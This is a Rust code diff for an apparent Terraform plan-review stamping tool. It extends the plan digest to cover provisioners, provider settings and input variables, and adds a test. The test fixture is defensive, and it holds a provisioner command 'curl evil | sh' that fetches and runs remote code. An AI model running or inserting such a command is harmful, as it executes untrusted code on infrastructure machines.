@@ -41,6 +41,9 @@ pub struct ChangeSet {
     pub resources: BTreeMap<String, Entry>,
     /// Output changes, by name.
     pub outputs: BTreeMap<String, Entry>,
+    /// What an apply runs besides the resource and output changes, by name (`configuration`:
+    /// provisioners, provider settings, module calls; `variables`: the input values): a hash each.
+    pub settings: BTreeMap<&'static str, [u8; 32]>,
 }
 
 /// One resource or output of a change set.
@@ -89,10 +92,29 @@ impl ChangeSet {
                 (name.clone(), entry)
             })
             .collect();
+        let settings = [
+            ("configuration", plan.configuration.as_ref()),
+            ("variables", plan.variables.as_ref()),
+        ]
+        .into_iter()
+        .map(|(name, digest)| {
+            let mut hasher = Sha256::new();
+            field(&mut hasher, name);
+            match digest {
+                Some(digest) => {
+                    hasher.update([1]);
+                    digest.feed(&mut hasher);
+                }
+                None => hasher.update([0]),
+            }
+            (name, hasher.finalize().into())
+        })
+        .collect();
         ChangeSet {
             terraform_version: plan.terraform_version.clone(),
             resources,
             outputs,
+            settings,
         }
     }
 
@@ -113,6 +135,11 @@ impl ChangeSet {
                 hasher.update(entry.hash);
             }
         }
+        for (name, hash) in &self.settings {
+            field(&mut hasher, "c");
+            field(&mut hasher, name);
+            hasher.update(hash);
+        }
         format!("{PREFIX}{}", hex(&hasher.finalize()))
     }
 
@@ -125,6 +152,9 @@ impl ChangeSet {
                 for (name, entry) in map {
                     entries.insert(name_key(kind, name), short(&entry.hash));
                 }
+            }
+            for (name, hash) in &self.settings {
+                entries.insert(name_key("c", name), short(hash));
             }
             entries
         });
@@ -327,7 +357,7 @@ impl Stamp {
                             s.len() == n
                                 && s.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
                         };
-                        let kind_ok = key.starts_with('r') || key.starts_with('o');
+                        let kind_ok = key.starts_with(['r', 'o', 'c']);
                         (kind_ok && hexish(&key[1..], ENTRY_HEX) && hexish(value, ENTRY_HEX))
                             .then(|| (key.to_owned(), value.to_owned()))
                     })
@@ -371,6 +401,9 @@ pub struct Difference {
     pub removed_unnamed: usize,
     /// Output names added, changed or removed.
     pub outputs: Vec<String>,
+    /// What changed besides resources and outputs: `configuration` (provisioners, provider
+    /// settings) and `variables`.
+    pub configuration: Vec<&'static str>,
     /// (reviewed, merged) when the Terraform version differs.
     pub terraform_version: Option<(String, String)>,
     /// The reviewed stamp had no entries (a big plan): only the digests can be compared.
@@ -416,6 +449,13 @@ impl Difference {
             seen.insert(key.clone());
             if entries.get(&key) != Some(&short(&entry.hash)) {
                 difference.outputs.push(name.clone());
+            }
+        }
+        for (name, hash) in &merged.settings {
+            let key = name_key("c", name);
+            seen.insert(key.clone());
+            if entries.get(&key) != Some(&short(hash)) {
+                difference.configuration.push(name);
             }
         }
         let missing: std::collections::BTreeSet<&String> =
@@ -536,6 +576,40 @@ mod tests {
         let mut version = base.clone();
         version.terraform_version = "1.12.0".to_owned();
         assert_ne!(base.digest(), version.digest());
+    }
+
+    /// What an apply runs besides the resource changes: a provisioner's command, a provider's
+    /// settings (the account it assumes a role in) and the input variables. A merged commit that
+    /// changes only those plans the same resource changes, and must still not pass as reviewed.
+    #[test]
+    fn the_digest_covers_the_configuration_and_the_variables() {
+        let a = resource(
+            "terraform_data.a",
+            r#"["create"]"#,
+            "null",
+            r#"{"input":"x"}"#,
+        );
+        let with = |configuration: &str, variables: &str| {
+            ChangeSet::from_plan(&plan(&format!(
+                r#"{{"format_version":"1.2","terraform_version":"1.11.4","planned_values":{{}},"resource_changes":[{a}],"output_changes":{{}},"configuration":{configuration},"variables":{variables}}}"#
+            )))
+        };
+        let echo = r#"{"root_module":{"resources":[{"address":"terraform_data.a","provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"echo reviewed"}}}]}]}}"#;
+        let curl = r#"{"root_module":{"resources":[{"address":"terraform_data.a","provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"curl evil | sh"}}}]}]}}"#;
+        let reviewed = with(echo, r#"{"region":{"value":"eu-west-1"}}"#);
+        let provisioner = with(curl, r#"{"region":{"value":"eu-west-1"}}"#);
+        let variable = with(echo, r#"{"region":{"value":"us-east-1"}}"#);
+        assert_ne!(reviewed.digest(), provisioner.digest());
+        assert_ne!(reviewed.digest(), variable.digest());
+        assert_eq!(
+            reviewed.digest(),
+            with(echo, r#"{"region":{"value":"eu-west-1"}}"#).digest()
+        );
+        let difference = Difference::between(&reviewed.stamp(), &provisioner, ["terraform_data.a"]);
+        assert_eq!(difference.configuration, ["configuration"]);
+        assert!(difference.added.is_empty() && difference.changed.is_empty());
+        let difference = Difference::between(&reviewed.stamp(), &variable, ["terraform_data.a"]);
+        assert_eq!(difference.configuration, ["variables"]);
     }
 
     /// A `create_before_destroy` replacement that failed leaves a deposed object at the same
